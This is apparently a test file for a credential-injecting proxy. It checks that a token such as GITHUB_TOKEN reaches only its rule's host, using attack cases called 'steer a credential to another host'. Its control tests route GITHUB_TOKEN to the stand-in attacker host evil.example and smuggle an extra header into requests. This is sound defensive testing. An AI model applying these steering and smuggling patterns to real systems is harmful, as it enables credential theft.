/**
 * The contract (I1, I3, I5): a credential goes to its rule's host and nowhere else, and what a rule's
 * host gets is what the policy has seen, with our credential and no other.
 */

import assert from "node:assert/strict";
import { attackFamily } from "./attack_family.ts";
import { get, inClear, throughTunnel } from "./probe.ts";
import { smuggled, startSteerWorld } from "./steer_world.ts";
import { hostCases } from "./steer_host_cases.ts";
import { smugglingCases } from "./steer_smuggling_cases.ts";
import { targetCases } from "./steer_target_cases.ts";

attackFamily("steer a credential to another host", {
  start: startSteerWorld,
  cases: [...targetCases, ...hostCases, ...smugglingCases],
  normal: "api.github.com:443",
});

Deno.test("control: the attacker's servers are reached, and a credential there is seen", async () => {
  await using world = await startSteerWorld({
    args: ["--rule", "evil.example,Authorization,GITHUB_TOKEN"],
  });
  const request = get("evil.example");
  const evidence = await throughTunnel(world, { connect: "evil.example:443", request });
  assert.deepEqual(world.judge(evidence), ["Server evil has GITHUB_TOKEN"]);
  const blind = { connect: "x.evil.example:443", request: get("x.evil.example") };
  assert.deepEqual(world.judge(await throughTunnel(world, blind)), []);
  await inClear(world, get("x.evil.example", { path: "http://x.evil.example/" }));
  assert.equal(world.server("evil in clear").requests.length, 1);
  assert.equal(world.server("evil").requests.length, 2);
});

Deno.test("control: a request that a policy should have seen, or a token, is seen at the server", async () => {
  await using world = await startSteerWorld();
  const path = "/hidden-from-policy";
  const request = get("api.github.com", {
    path,
    fields: "X-Note: attackers-own-token-0123456789\r\n",
  });
  for (const hidden of [path, "attackers-own-token-0123456789"]) {
    const { gained = [] } = await smuggled("", { request, hidden }).attempt(world);
    assert.equal(gained.length, 1);
  }
});
